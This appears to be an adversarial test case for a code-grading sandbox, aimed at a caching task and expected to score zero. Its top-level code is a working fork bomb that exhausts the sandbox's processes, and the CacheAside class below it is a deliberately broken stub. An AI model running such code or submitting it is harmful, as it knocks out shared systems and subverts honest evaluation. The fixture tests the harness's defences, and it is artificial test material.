"""Tries: to take every process that the sandbox has, over several lives, so that another can't be started.
Against: 15-caching (flat-cost)
Must: score at most 0; unmet; says /used up what all of them share|raised NotImplementedError|was stopped/
"""

import os
import signal

try:
    while True:
        if os.fork() == 0:
            signal.pause()
except OSError:
    pass


class CacheAside:
    def __init__(self, store, ttl, capacity, grace=0.0):
        self.store = store

    async def get(self, key):
        if key == "key2047":
            raise NotImplementedError
        return await self.store.read(key)
